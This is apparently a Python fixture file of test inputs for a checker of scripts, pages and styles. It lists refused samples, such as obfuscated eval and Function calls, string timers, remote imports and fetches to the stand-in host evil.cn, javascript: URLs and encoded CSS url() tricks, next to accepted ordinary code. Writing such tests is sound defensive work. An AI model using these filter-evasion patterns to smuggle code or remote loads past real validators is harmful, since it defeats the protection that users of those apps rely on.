"""Scripts, pages and styles that hide what they do, by the rule that each breaks, and ordinary ones beside them."""

_PADDING = "/*" + "x" * 220 + "*/"
_MANY_SERVERS = "".join(f'"http://u{n}@www.w3.org/";\n' for n in range(299))
_MANY_PORTS = "".join(f'"https://api.yining.cn:{n}/";\n' for n in range(1, 299))

REFUSED = {
    "script_makes_code": [
        # The name as a value, in any spelling.
        *(r"\u0065val(a)", r"ev\u{61}l(a)", "eval.call(null, a)", "var e = eval; e(a)", "eval`1`", "eval?.(a)"),
        *("((eval))(a)", "[eval][0](a)", "['1'].map(eval)", "({eval}).eval(a)", "Reflect.apply(eval, null, [a])"),
        *("eval.bind(null)(a)", "fetch('a').then(r => r.text()).then(eval)", "const {eval: e} = window"),
        *("const {eval} = window", "({eval: a} = window)", "execScript(a)", "window.eval = a"),
        # As a member of whatever object.
        *("this['eval'](a)", "window[`eval`](a)", r'window["\x65val"](a)', "window['ev' + 'al'](a)"),
        *("frames[0].eval(a)", "document.defaultView.eval(a)", "window?.['eval']?.(a)", "window/**/.eval(a)"),
        *("(0,/**/eval)(a)", f"window{_PADDING}.eval(a)", f"window{' ' * 220}.eval(a)", "const {['eval']: e} = window"),
        *("window[a](b)", "globalThis['a' + b]", "self[`${a}`]", "top?.[a]", "const {[a]: e} = window"),
        "Reflect.get(window, 'eval')",
        # Function, and whatever makes functions.
        *("const F = Function; F('1')", "Function.apply(null, ['a'])", "new (Function)('a')", r"F\u0075nction('a')()"),
        *("Reflect.construct(Function, ['a'])", "Function.prototype.constructor('a')", "a.Function('b')"),
        *("(() => {})[`constructor`]('a')()", r"(() => {}).\u0063onstructor('a')()", "[]['map']['const' + 'ructor']"),
        *("const {constructor: C} = () => {}", "const {constructor} = a", "a.constructor(b)", "new a.constructor(b)"),
        *("(() => {" + "b();" * 60 + "}).constructor('a')()", "const C = a.constructor", "a.constructor.constructor"),
        *("a.constructor.call(b, 'c')", "f(a.constructor)", "[a.constructor]", "(a.constructor || b)('c')"),
        *("WebAssembly.instantiate(a)", "window['WebAssembly'].compile(a)", "new WebAssembly.Module(a)"),
        # Timers with anything but a function.
        *("var s = 'a()'; setTimeout(s, 1)", "setTimeout.call(window, 'a()')", "(setTimeout)('a()')"),
        *("setTimeout(['a()'], 1)", "setTimeout(c ? 'a()' : 'b()', 1)", "window['setTimeout']('a()')"),
        *("setTimeout(a.b, 1)", "setTimeout(a(), 1)", "setTimeout(...a)", "setImmediate(`a()`)", "[setTimeout]"),
        *("var t = setTimeout; t('a()')", "function f(s = 'a()') { setTimeout(s) }", "const {setTimeout: t} = window"),
        *("s = 'a' + b; setTimeout(s)", "setTimeout({bind: () => 'a()'}.bind(), 1)", r"set\u0054imeout('a()')"),
        # Texts that become pages, attributes or addresses.
        *("document.write(a)", "document['writeln'](a)", "window.document.write(a)"),
        *(
            "e.innerHTML = '<img onerror=eval(1)>'",
            "e.setAttribute('onclick', 'a()')",
            "e.innerHTML = '<script>' + a + '</script>'",
            "location = 'javascript:eval(a)'",
        ),
        *(
            "location = 'java' + 'script:eval(a)'",
            r"location = 'java\x73cript:a' + b",
            "location = 'JavaScript:\\teval(1)'",
        ),
    ],
    "script_remote": [
        *(
            r'import("\x68ttps://evil.cn/x.js")',
            r'import "\x2f\x2fevil.cn/x.js"',
            r'new Worker("\x2f\x2fevil.cn/x.js")',
        ),
        *(
            r'importScripts("\x2f\x2fevil.cn/x.js")',
            "import('https:/' + '/evil.cn/x.js')",
            "import(`https://evil.cn/x`)",
        ),
        *("import(a)", "import(`./${a}.js`)", "import/**/(a)", "new Worker(a)", "importScripts('a.js', b)"),
        *("new Worker(URL.createObjectURL(a))", "new self.Worker(a)", "new (Worker)(a)", "new SharedWorker('blob:a')"),
        *("navigator.serviceWorker.register(a)", "CSS.paintWorklet.addModule('https://evil.cn/a.js')"),
        *(
            "e.innerHTML = '<script src=//evil.cn/x.js><\\/script>'",
            "e.innerHTML = '<scr' + 'ipt src=//a.cn/b></script>'",
        ),
        'export * from "https:evil.cn/x.js"',
    ],
    "domain_not_allowed": [
        *('fetch("ht\\ttps://evil.cn/")', r'fetch("\u0068ttps://evil.cn/")', r"fetch(`\x68ttps://evil.cn`)"),
        *(
            'fetch("https://ev\\\nil.cn/a")',
            'fetch("https:evil.cn/a")',
            r'fetch("https:\\evil.cn/a")',
            'fetch(" //evil.cn")',
        ),
        *('fetch("https://api.yining.cn" + ".evil.cn/")', 'fetch("https://api.yining.cn" + a)', "a('//' + b + '/c')"),
        *("fetch(`https://api.yining.cn${a}`)", "fetch(`https://${a}.yining.cn/`)", 'fetch("ht" + "tps://evil.cn")'),
        *('fetch(a + "https://evil.cn/")', 'fetch("https://" + ("evil" + (".cn")))', 'fetch("https:///evil.cn/")'),
        *(
            'fetch("https://api.yining.cn@evil.cn/")',
            'fetch("https://api.yining.cn:x@evil.cn/")',
            "fetch('HTTPS://EVIL.CN')",
        ),
        *('fetch("//ｅvil。cn/")', "new RTCPeerConnection('stun:evil.cn')"),
        # A registered server on another port, or without TLS.
        *(
            "fetch('http://api.yining.cn/')",
            "new WebSocket('ws://api.yining.cn/')",
            "fetch('https://api.yining.cn:8443/')",
        ),
        # Many harmless things first.
        f"{_MANY_SERVERS} fetch('https://evil.cn/')",
        f"{_MANY_PORTS} fetch('https://evil.cn/')",
        *("e.innerHTML = '<img src=//evil.cn/a>'", "e.style.background = 'url(//evil.cn/a)'"),
    ],
    "script_too_complex": ["".join(f"'//{n}.cn';" for n in range(1_200))],
    "permission_not_declared": [
        *("navigator['geolocation'].watchPosition(a)", "navigator['geo' + 'location']", "navigator?.[`clipboard`]"),
        *(
            "const {geolocation: g} = navigator",
            "const {geolocation} = window.navigator",
            r"navigator.\u0067eolocation",
        ),
        *("const n = navigator; n.geolocation.a()", "navigator/**/.geolocation", "window['navigator']['contacts']"),
        "({mediaDevices: a} = navigator)",
    ],
    "load_wrong_kind": [
        *("import('./code.txt')", "import './code.data'", "new Worker('w.txt')", "importScripts('code')"),
        *("import('./code.txt?a=.js')", "import './code.txt#.js'", "import(`./%64.txt`)", "export * from './a.css'"),
        *("new Worker(new URL('./w.txt', import.meta.url))", "e.innerHTML = '<script src=code.txt></script>'"),
        *("e.innerHTML = '<iframe src=' + a + '></iframe>'", "import a from './a.json'"),
    ],
    "load_missing": ["import './none.js'", "import('../none.mjs')"],
}
PAGES = {
    "load_wrong_kind": [
        *('<script src="code.txt"></script>', "<script src=/app.css></script>", "<script src=d.json></script>"),
        *("<script src=code></script>", "<script src=%64.txt></script>", "<script src='d.txt?x=.js'></script>"),
        *(
            "<script src=a.jsm></script>",
            "<script type=module src=code.txt></script>",
            "<svg><script href=a.txt></svg>",
        ),
        *(
            "<link rel=stylesheet href=s.txt>",
            "<link rel='alternate stylesheet' href=s>",
            "<link as=script href=a.txt>",
        ),
        *("<iframe src=frame></iframe>", "<iframe src=frame.txt></iframe>", "<object data=a.vue></object>"),
        *("<embed src=a.hta>", "<frame src=a.svgz>", "<style>@import 's.txt';</style>"),
        '<script type="importmap">{"imports": {"a": "./code.txt"}}</script>',
        "<script type=module>import './code.txt'</script>",
    ],
    "load_missing": [
        *("<script src=none.js></script>", "<link rel=stylesheet href=/none.css>", "<iframe src=../pages/none.html>"),
        "<script src=../APP.js></script>",
    ],
    "script_remote": [
        r'<script type="importmap">{"imports":{"a":"https:\u002f\u002fevil.cn/x.js"}}</script>',
        r'<script type="importmap">{"imports":{"a":"https:\/\/evil.cn/x.js"}}</script>',
        '<script type="importmap">{"imports":{"a":"https:evil.cn/x.js"}}</script>',
        '<script type="importmap">{"scopes":{"//evil.cn/":{"a":"/a.js"}}}</script>',
        "<link rel=stylesheet href='data:text/css,a'>",
    ],
    "script_not_parsed": ['<script type="importmap">{"imports": {</script>'],
    "domain_not_allowed": [
        *(
            '<meta http-equiv=refresh content="0;//evil.cn/">',
            "<meta http-equiv=refresh content=\"0, url = '//evil.cn'\">",
        ),
        *('<a ping="//evil.cn" href=a>', "<applet archive=https://evil.cn/a>", "<img lowsrc=//evil.cn/a>"),
        *(r"<style>p{background:u\72l(//evil.cn)}</style>", r'<p style="background:u\72l(//evil.cn/x)">'),
        *("<p style='background:url(&#47;&#47;evil.cn/x)'>", "<svg><rect fill='url(//evil.cn/a#b)'/></svg>"),
        *("<link rel=stylesheet href=https://evil.cn/a.css>", "<iframe src=https://evil.cn/></iframe>"),
        "<img src='https://api.yining.cn@evil.cn/a.png'>",
    ],
    "script_makes_code": [
        *('<svg><a><animate attributeName=href values="a;javascript:eval(1)">', '<svg><set to="javascript:eval(1)">'),
        r"<p onclick='\u0065val(1)'>",
    ],
    "script_too_complex": ["<a>" * 120_000],
}
STYLES = {
    "domain_not_allowed": [
        *(r'@\69mport "//evil.cn/x.css";', r'@import "\2f\2f evil.cn/x.css";', 'a{b:image-set("//evil.cn/x" 1x)}'),
        *(r"a{background:u\72l(//evil.cn/x)}", 'a{b:url( "ht\\\ntps://evil.cn")}', '@import/**/"//evil.cn/x.css";'),
        *("@font-face{src:url(https:evil.cn/f)}", r"a{b:url(\\\\evil.cn/f)}", "@namespace url(http://evil.cn/)"),
        *(
            'a{b:-webkit-image-set("https://evil.cn/x" 1x)}',
            'a{b:src("//evil.cn/x")}',
            r'a{b:url("h\000074tps://evil.cn")}',
        ),
    ],
    "load_wrong_kind": ["@import 's.txt';", "@import url(s);", r"@\69mport 's.txt';", "@import/* */'s.txt';"],
    "load_missing": ["@import 'none.css';"],
}

ACCEPTED = [
    *("obj.evaluate(1); const evaluation = 2", "setTimeout(tick, 10); function tick() {}", "setTimeout(() => {}, 1)"),
    *("setTimeout(function () {}, 1)", "setInterval(async () => {}, 1)", "new Promise(r => setTimeout(r, 100))"),
    *("setTimeout(this.tick.bind(this), 10)", "setTimeout((() => a), 1)", "const id = setTimeout(a); clearTimeout(id)"),
    "var later = typeof setTimeout === 'function' ? setTimeout : null; later(() => {}, 1)",
    *("a.constructor.name", "a.constructor === Object", "B.prototype.constructor = B", "class A { constructor() {} }"),
    *(
        "a && a.constructor && a.constructor.name",
        "if (!a.constructor) b()",
        "a.hasOwnProperty('constructor')",
        "a instanceof Function",
    ),
    *("typeof Function", "Function.prototype.call.call(a)", "'Function' === a", "const a = {eval: 1, constructor: 2}"),
    *("var self = this; self[a] = 1", "function f(parent, name) { return parent[name] }", "window['a'] = 1; frames[0]"),
    *(
        "window.a = 1",
        "this[a] = b",
        "a.setAttribute('href', b)",
        "'a // b'",
        "'see https://example.org'",
        "a.split('://')",
    ),
    *(
        "import('./app.js')",
        "new Worker('/app.js')",
        "new Worker(new URL('./w.js', import.meta.url))",
        "import a from 'vue'",
    ),
    *("fetch('https://api.yining.cn/' + a)", "fetch(`https://api.yining.cn/v1/${a}?b=${c}`)", "fetch('/v1/' + a)"),
    *("fetch('https://api.yining.cn:443/')", "new WebSocket('wss://api.yining.cn')", "'http://www.w3.org/1999/xhtml'"),
    *("e.innerHTML = '<p>' + a + '</p>'", "a < b && c > d", "e.innerHTML = '<script></script>'", "const s = 'a'; f(s)"),
    *("const {name} = navigator", "a.geolocation", "const t = `a${`b${c}`}`", "x = 'b' + ('c' + (d + 'e'))"),
    *("label: for (;;) { break label }", "const s = 'a'; const go = () => s; setTimeout(go, 1)", "a.document.title"),
]
ACCEPTED_PAGES = [
    "<link rel=stylesheet href=../app.css><script src=../app.js></script><script src=/app.js?v=1></script>",
    "<iframe src=index.html></iframe><iframe></iframe><object data=../common/icon.png></object>",
    "<meta http-equiv=refresh content='5'><meta http-equiv=refresh content='0; url=detail/detail.html'>",
    '<script type="importmap">{"imports": {"vue": "../app.js"}}</script><script type=module>import "vue"</script>',
    "<style>/* https://example.org */ p { background: url(../common/icon.png) }</style><p style='color: red'>",
    "<a href='https://www.example.cn/'>a</a><link rel=icon href=../common/icon.png><svg><animate values='0;1'/></svg>",
    "<p onclick='go(1)'>" * 2_000,
]
ACCEPTED_STYLES = [
    "/*! See https://example.org/license */ a { background: url(common/icon.png) } @import 'app.css';",
    'a::before { content: "\\201c"; } b { background: url("data:image/png;base64,AA//AA==") }',
    "a { width: calc((1px + 2px) * 2) } @media (min-width: 1px) { b { color: red } }",
]
